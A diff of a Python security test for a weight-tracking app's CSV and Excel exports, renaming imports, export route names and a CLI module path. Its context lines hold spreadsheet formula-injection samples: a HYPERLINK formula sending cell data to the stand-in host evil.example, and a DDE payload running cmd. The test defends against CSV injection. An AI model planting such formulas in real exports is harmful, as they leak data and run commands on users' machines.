@@ -32,7 +32,7 @@ from tests.security.matrix import EMAILS, _arg_values, _plan
 from tracker import services
 from tracker.services import devices as device_service
 from tracker.models import Account, Household, WeighIn
-from tracker.models_life import Event, OutgoingMail
+from tracker.models import Event, OutgoingMail
 
 ROOT = pathlib.Path(__file__).resolve().parents[2]
 NAME = '=HYPERLINK("https://evil.example/?x="&A1;"Voir")'
@@ -45,8 +45,8 @@ DISPLAY = "=DDE(\"cmd\";\"/C calc\";\"x\")"
 
 #: Every route that answers a CSV (directly or in a ZIP), by endpoint: a new one fails the
 #: test until it is added here (check that the hostile texts reach it).
-CSV_ROUTES = {"staff_cohort.export", "life_privacy.my_data_download",
-              "life_privacy.staff_export", "staff_cohort.export_excel",
+CSV_ROUTES = {"staff_cohort.export", "family_privacy.my_data_download",
+              "staff_households.export", "staff_cohort.export_excel",
               "staff_cohort.weighins_excel"}
 #: Every route that answers an .xlsx workbook.
 XLSX_ROUTES = {"staff_cohort.export"}
@@ -58,7 +58,7 @@ CSV_COMMANDS = {
 }
 #: Modules that write CSV (through dashboards.csvsafe), and the producers above that run them.
 CSV_WRITERS = {"dashboards/export.py", "tracker/csvio.py", "tracker/services/privacy.py",
-               "tracker/cli.py"}
+               "tracker/cli/weighins.py"}
 PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?(?:[eE][+-]?\d+)?\Z")
 SOURCE_DIRS = ("tracker", "dashboards", "ingest", "firmware_bridge")
 
